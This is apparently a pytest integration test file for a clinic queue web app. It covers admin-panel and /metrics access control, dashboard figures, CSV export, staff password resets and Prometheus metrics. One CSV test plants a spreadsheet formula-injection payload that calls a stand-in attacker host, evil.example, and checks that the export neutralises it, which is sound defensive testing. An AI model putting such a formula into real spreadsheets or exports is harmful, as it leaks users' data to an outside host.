"""The management panel and /metrics: who may open them; their numbers are the database's."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient
from prometheus_client.parser import text_string_to_metric_families

from tests.integration.conftest import ClientMaker, post_form
from tests.integration.flows import approved_professional, make_admin, register_patient
from tests.integration.records import end_visit
from tests.support import make_config
from web.app import create_app
from web.keys import STORE
from web.queue import State

PANEL_PAGES = [
    "/admin", "/admin/painel.json", "/admin/profissionais", "/admin/atendimentos",
    "/admin/atendimentos.csv", "/admin/avaliacoes", "/admin/midia",
]  # fmt: skip


@pytest.fixture
async def locked(aiohttp_client: ClientMaker, tmp_path: Path) -> TestClient:
    """/metrics only with the token (no address is trusted)."""
    config = make_config(tmp_path, metrics={"token": "s3cret", "allowed_addresses": []})
    return await aiohttp_client(create_app(config))


async def test_only_admins_open_the_panel_and_metrics(
    aiohttp_client: ClientMaker, locked: TestClient
) -> None:
    anonymous = await aiohttp_client(locked.server)
    patient = await aiohttp_client(locked.server)
    await register_patient(patient, 501)
    pro = await aiohttp_client(locked.server)
    await approved_professional(pro)
    admin = await aiohttp_client(locked.server)
    await make_admin(admin)
    for path in PANEL_PAGES:
        for who in (anonymous, patient):
            resp = await who.get(path, allow_redirects=False)
            assert resp.status == 303 and resp.headers["Location"] == "/profissional/entrar"
        assert (await pro.get(path)).status == 403, path
        assert (await admin.get(path)).status == 200, path
    for who in (anonymous, patient, pro):
        assert (await who.get("/metrics")).status == 403
    assert (await anonymous.get("/metrics", headers={"Authorization": "Bearer nope"})).status == 403
    ok = await anonymous.get("/metrics", headers={"Authorization": "Bearer s3cret"})
    assert ok.status == 200
    assert (await admin.get("/metrics")).status == 200


async def visit(client: TestClient, patient_id: int, pro_id: int, **times: float) -> int:
    """A ticket with chosen times (seconds since now); returns its id."""
    store = client.app[STORE]
    now = time.time()
    cur = store.db.execute(
        "INSERT INTO tickets (patient_id, state, priority, seq, arrived_at, professional_id,"
        " called_at, started_at, ended_at, rating, comment, rated_at)"
        " VALUES (?, ?, 2, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        (patient_id, times.get("state", State.ENDED), int(now * 1000) % 10**9,
         now + times["arrived"], pro_id, now + times["called"], now + times["started"],
         now + times["ended"], times.get("rating"), times.get("comment", ""),
         now + times["ended"] if times.get("rating") else None),
    )  # fmt: skip
    return int(cur.lastrowid or 0)


async def test_overview_figures_are_the_databases(client: TestClient) -> None:
    store = client.app[STORE]
    for seed in (511, 512, 513):
        await register_patient(client, seed)
        client.session.cookie_jar.clear()
    await make_admin(client)
    pro = store.staff_by_email("gestao@example.org")
    assert pro is not None
    # two finished visits today: waits of 120 s and 60 s, durations 300 s and 500 s, ratings 4, 2
    await visit(
        client, 1, pro.id, arrived=-1500, called=-1380, started=-1370, ended=-1070, rating=4
    )
    await visit(client, 2, pro.id, arrived=-900, called=-840, started=-830, ended=-330, rating=2)
    for ticket in store.waiting()[:1]:
        store.db.execute(
            "UPDATE tickets SET arrived_at = ? WHERE id = ?", (time.time() - 2000, ticket.ticket_id)
        )
    data = await (await client.get("/admin/painel.json")).json()
    o = data["overview"]
    assert o["waiting_now"] == 3
    assert o["in_call_now"] == 0
    assert o["visits_today"] == 2
    assert o["average_wait_s"] == pytest.approx(90, abs=1)
    assert o["longest_wait_s"] == pytest.approx(2000, abs=5)  # the one still waiting
    assert o["average_duration_s"] == pytest.approx(400, abs=1)
    assert o["average_rating"] == 3.0
    assert sum(data["hourly"]["visits"]) == 2
    page = await (await client.get("/admin/avaliacoes")).text()
    assert 'data-stars="4">1<' in page and 'data-stars="2">1<' in page


async def test_csv_export_reads_back_as_the_visits(client: TestClient) -> None:
    await register_patient(client, 521, name="Helena Costa")
    client.session.cookie_jar.clear()
    await make_admin(client)
    pro = client.app[STORE].staff_by_email("gestao@example.org")
    assert pro is not None
    first = await visit(client, 1, pro.id, arrived=-900, called=-840, started=-830, ended=-330,
                        rating=5, comment='Ótimo, "obrigada"; voltarei')  # fmt: skip
    resp = await client.get("/admin/atendimentos.csv")
    assert resp.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    db_rows = (
        client.app[STORE].db.execute("SELECT * FROM tickets ORDER BY arrived_at DESC").fetchall()
    )
    assert [int(r["ticket"]) for r in rows] == [r["id"] for r in db_rows]
    exported = next(r for r in rows if int(r["ticket"]) == first)
    assert exported["patient_first_name"] == "Helena"
    assert exported["professional"] == "Gestora Clínica"
    assert (exported["rating"], exported["comment"]) == ("5", 'Ótimo, "obrigada"; voltarei')
    assert float(exported["wait_s"]) == pytest.approx(60, abs=0.2)
    assert float(exported["duration_s"]) == pytest.approx(500, abs=0.2)
    other = await client.get(f"/admin/atendimentos.csv?profissional={pro.id + 1}")
    assert len(list(csv.DictReader(io.StringIO(await other.text())))) == 0

    # A comment a spreadsheet would run as a formula is exported as text.
    hostile = '=HYPERLINK("http://evil.example/?"&C2,"ver")'
    client.app[STORE].db.execute("UPDATE tickets SET comment = ? WHERE id = ?", (hostile, first))
    text = await (await client.get("/admin/atendimentos.csv")).text()
    exported = next(r for r in csv.DictReader(io.StringIO(text)) if int(r["ticket"]) == first)
    assert exported["comment"] == "'" + hostile


async def test_deactivate_and_reset_password(
    aiohttp_client: ClientMaker, client: TestClient
) -> None:
    pro = await aiohttp_client(client.server)
    await approved_professional(pro)
    await make_admin(client)
    staff = client.app[STORE].staff_by_email("ana@example.org")
    assert staff is not None
    resp = await post_form(
        client, "/admin/profissionais", f"/admin/profissionais/{staff.id}/ativo", {"active": "no"}
    )
    assert "Acesso de Ana Souza desativado." in await resp.text()
    assert (await pro.get("/profissional", allow_redirects=False)).status == 303  # signed out
    resp = await post_form(
        client, "/admin/profissionais", f"/admin/profissionais/{staff.id}/ativo", {"active": "yes"}
    )
    assert "reativado" in await resp.text()
    resp = await post_form(
        client, "/admin/profissionais", f"/admin/profissionais/{staff.id}/nova-senha", {}
    )
    text = await resp.text()
    new_password = text.split("Nova senha de Ana Souza: ")[1].split(" ")[0]
    old = await post_form(pro, "/profissional/entrar", "/profissional/entrar",
                          {"email": "ana@example.org", "password": "senha-muito-boa"})  # fmt: skip
    assert old.status == 401
    new = await post_form(pro, "/profissional/entrar", "/profissional/entrar",
                          {"email": "ana@example.org", "password": new_password})  # fmt: skip
    assert new.url.path == "/profissional"


async def test_metrics_parse_with_prometheus_own_parser(client: TestClient) -> None:
    await register_patient(client, 531)
    await make_admin(client)
    text = await (await client.get("/metrics")).text()
    families = {f.name: f for f in text_string_to_metric_families(text)}
    assert families["atende_queue_waiting"].samples[0].value == 1
    wait = families["atende_wait_seconds"]
    assert wait.type == "histogram"
    assert {s.name for s in wait.samples} >= {
        "atende_wait_seconds_bucket",
        "atende_wait_seconds_count",
    }
    ratings = families["atende_ratings"]
    assert sorted(s.labels["stars"] for s in ratings.samples if s.name.endswith("_total")) == list(
        "12345"
    )
    assert "process_cpu_seconds" in families


async def visits_rated(
    client: TestClient, seeds: tuple[int, ...], ratings: tuple[int, ...]
) -> list[int]:
    """Patients registered through the pages, each seen by the admin (signed in on `client`
    at the end) and rated; their ticket ids."""
    cpfs = []
    for seed in seeds:
        client.session.cookie_jar.clear()
        cpfs.append(await register_patient(client, seed))
    client.session.cookie_jar.clear()
    await make_admin(client)
    store = client.app[STORE]
    staff = store.staff_by_email("gestao@example.org")
    assert staff is not None
    return [
        end_visit(store, cpf, staff.id, rating=stars)
        for cpf, stars in zip(cpfs, ratings, strict=True)
    ]


async def test_metrics_histograms_count_every_visit_of_the_history(client: TestClient) -> None:
    store = client.app[STORE]
    tickets = await visits_rated(client, (541, 542), (4, 4))
    # the second waited 400 s and talked 700 s (the first: 60 s and 300 s)
    store.db.execute(
        "UPDATE tickets SET called_at = arrived_at + 400, started_at = arrived_at + 410,"
        " ended_at = arrived_at + 1110 WHERE id = ?",
        (tickets[1],),
    )
    text = await (await client.get("/metrics")).text()
    families = {f.name: f for f in text_string_to_metric_families(text)}

    def buckets(name: str) -> dict[str, float]:
        return {
            s.labels.get("le", s.name.rsplit("_", 1)[1]): s.value for s in families[name].samples
        }

    wait = buckets("atende_wait_seconds")
    assert (wait["30.0"], wait["60.0"], wait["300.0"], wait["600.0"], wait["+Inf"]) == (
        0,
        1,
        1,
        2,
        2,
    )
    assert (wait["count"], wait["sum"]) == (2, 460)
    duration = buckets("atende_call_duration_seconds")
    assert (duration["180.0"], duration["300.0"], duration["600.0"], duration["900.0"]) == (
        0,
        1,
        1,
        2,
    )
    assert (duration["count"], duration["sum"]) == (2, 1000)
    stars = {s.labels["stars"]: s.value for s in families["atende_ratings"].samples}
    assert stars == {"1": 0, "2": 0, "3": 0, "4": 2, "5": 0}


async def test_the_average_rating_is_written_in_the_pages_language(client: TestClient) -> None:
    from tests.integration.test_languages import choose_language

    await visits_rated(client, (551, 552), (4, 5))
    html = await (await client.get("/admin/profissionais")).text()
    assert ">4,5</td>" in html
    await choose_language(client, "en", "/admin/profissionais")
    html = await (await client.get("/admin/profissionais")).text()
    assert ">4.5</td>" in html
